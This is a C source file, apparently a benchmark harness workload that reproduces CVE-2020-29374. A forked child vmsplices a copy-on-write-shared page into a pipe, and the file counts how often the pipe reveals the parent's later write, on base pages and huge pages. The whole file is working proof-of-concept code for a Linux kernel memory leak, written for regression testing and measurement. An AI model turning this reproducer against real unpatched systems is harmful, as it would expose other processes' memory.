/* repro:vmsplice-child: CVE-2020-29374 (S6c), repeated. The parent writes
 * data A to a page and forks; the child vmsplices the COW-shared page into a
 * pipe (a read-only GUP reference), unmaps it and exits; the parent writes B.
 * The child's pipe then shows A (safe: the parent's write was copied) or B
 * (lost = leaked: the child reads what the parent wrote after it left,
 * because the parent's write fault reused the page the pipe references).
 * Phases "base" (4 KiB pages) and "thp" (a PMD-mapped THP: 5.9-5.17 kept
 * mapcount-based reuse for PMD THPs). */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <unistd.h>

#include "cowbench.h"

#define HUGE (2ul << 20)

struct vsc {
	uint64_t tag;
	char *page;
};

struct vsc_totals {
	uint64_t iterations, in_flight, lost, copies;
};

static const struct cb_opt opts[] = {
	{ .name = "iterations", .type = CB_OPT_U64, .def = "200", .min = 1, .max = 10000000,
	  .help = "attempts per phase" },
	{ .name = "thp", .type = CB_OPT_BOOL, .def = "on",
	  .help = "also run the PMD-mapped THP phase" },
	CB_OPT_END
};

static int setup(struct cb_ctx *c)
{
	struct vsc *v = cb_priv(c);
	v->page = malloc(cb_page_size());
	return v->page ? 0 : cb_fail(c, "out of memory");
}

/* A 2 MiB-aligned region of len bytes (a THP candidate when huge). */
static char *map_region(size_t len, bool huge)
{
	size_t span = huge ? len + HUGE : len;
	char *p = mmap(NULL, span, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (p == MAP_FAILED)
		return NULL;
	if (!huge)
		return p;
	char *a = (char *)(((uintptr_t)p + HUGE - 1) & ~(HUGE - 1));
	if (a > p)
		munmap(p, (size_t)(a - p));
	munmap(a + len, (size_t)(p + span - (a + len)));
	return a;
}

static bool is_thp(const char *p)
{
	return (cb_kpageflags_of(p) >> KPF_THP) & 1;
}

/* The child: vmsplice one page of the shared region, unmap the region,
 * report whether the pipe took the whole page, exit. */
static void child(char *page, size_t len, int pipe_w, int report)
{
	struct iovec iov = { page, cb_page_size() };
	ssize_t n = vmsplice(pipe_w, &iov, 1, 0);
	char ok = n == (ssize_t)cb_page_size();
	madvise(page, len, MADV_DONTNEED);
	if (write(report, &ok, 1) != 1)
		_exit(1);
	_exit(0);
}

/* One attempt on a fresh region; *skip is set when a THP was wanted but the
 * kernel did not give one. */
static int attempt(struct cb_ctx *c, struct vsc *v, bool huge, struct vsc_totals *t,
		   char *why, size_t whylen)
{
	size_t ps = cb_page_size(), len = huge ? HUGE : ps;
	char *r = map_region(len, huge);
	if (!r)
		return snprintf(why, whylen, "mmap: %s", strerror(errno)), -1;
	madvise(r, len, huge ? MADV_HUGEPAGE : MADV_NOHUGEPAGE);
	for (size_t off = 0; off < len; off += ps)
		cb_fresh_write(r + off, ++v->tag);
	int rc = -1, pfd[2] = { -1, -1 }, rep[2] = { -1, -1 };
	char ok = 0;
	if (huge && !is_thp(r)) {
		snprintf(why, whylen, "no PMD-mapped THP for the region (THP disabled or "
			 "no huge page free)");
		rc = 1;
	} else if (pipe2(pfd, O_CLOEXEC) || pipe2(rep, O_CLOEXEC)) {
		snprintf(why, whylen, "pipe: %s", strerror(errno));
	} else {
		pid_t pid = cb_fork(c);
		if (pid == 0)
			child(r, len, pfd[1], rep[1]);
		if (pid < 0 || read(rep[0], &ok, 1) != 1 || cb_reap(pid) != 0) {
			snprintf(why, whylen, "child failed");
		} else {
			memcpy(v->page, r, ps); /* A, what the child spliced */
			uint64_t pfn0 = cb_pfn_of(r);
			cb_fresh_write(r, ++v->tag); /* B */
			uint64_t pfn1 = cb_pfn_of(r);
			char *seen = malloc(ps);
			ssize_t n = ok && seen ? read(pfd[0], seen, ps) : -1;
			if (ok && n == (ssize_t)ps) {
				t->iterations++;
				t->in_flight++;
				t->lost += memcmp(seen, r, ps) == 0;
				t->copies += pfn0 && pfn1 && pfn0 != pfn1;
				rc = memcmp(seen, r, ps) && memcmp(seen, v->page, ps) ?
					     (snprintf(why, whylen, "pipe shows neither A nor B"), -1) : 0;
			} else {
				snprintf(why, whylen, "vmsplice/pipe read of one page failed");
			}
			free(seen);
		}
	}
	for (int i = 0; i < 2; i++) {
		if (pfd[i] >= 0)
			close(pfd[i]);
		if (rep[i] >= 0)
			close(rep[i]);
	}
	munmap(r, len);
	return rc;
}

static int run_phase(struct cb_ctx *c, struct vsc *v, bool huge)
{
	const char *name = huge ? "thp" : "base";
	uint64_t n = cb_opt_u64(c, "iterations");
	struct vsc_totals t = { 0 };
	char why[256] = "";
	/* A first attempt outside the phase tells whether the phase can run. */
	int rc = attempt(c, v, huge, &(struct vsc_totals){ 0 }, why, sizeof why);
	if (rc > 0) {
		cb_phase_skip(c, name, "%s", why);
		return 0;
	}
	if (rc < 0)
		return cb_fail(c, "%s: %s", name, why);
	cb_phase_begin(c, name);
	for (uint64_t i = 0; i < n && !rc; i++)
		rc = attempt(c, v, huge, &t, why, sizeof why);
	cb_phase_ops(c, t.iterations);
	cb_phase_metric(c, "iterations", (double)t.iterations, "iterations");
	cb_phase_metric(c, "in_flight", (double)t.in_flight, "iterations");
	cb_phase_metric(c, "lost", (double)t.lost, "iterations");
	cb_phase_metric(c, "copies", (double)t.copies, "pages");
	cb_phase_end(c);
	if (rc > 0)
		cb_note(c, "thp_partial", "%s after %llu iterations", why,
			(unsigned long long)t.iterations);
	return rc < 0 ? cb_fail(c, "%s: %s", name, why) : 0;
}

static int run(struct cb_ctx *c)
{
	struct vsc *v = cb_priv(c);
	if (run_phase(c, v, false))
		return -1;
	return cb_opt_bool(c, "thp") ? run_phase(c, v, true) : 0;
}

static void teardown(struct cb_ctx *c)
{
	struct vsc *v = cb_priv(c);
	if (v)
		free(v->page);
}

const struct cb_workload cb_wl_repro_vmsplice_child = {
	.name = "repro:vmsplice-child",
	.suite = CB_SUITE_REPRO,
	.op = "race iteration",
	.summary = "CVE-2020-29374: a child vmsplices a COW-shared page and unmaps it; does "
		   "its pipe show the parent's later write? (base page, THP)",
	.scenarios = "S6c",
	.opts = opts,
	.needs = CB_NEED_ROOT,
	.priv_size = sizeof(struct vsc),
	.setup = setup,
	.run = run,
	.teardown = teardown,
};
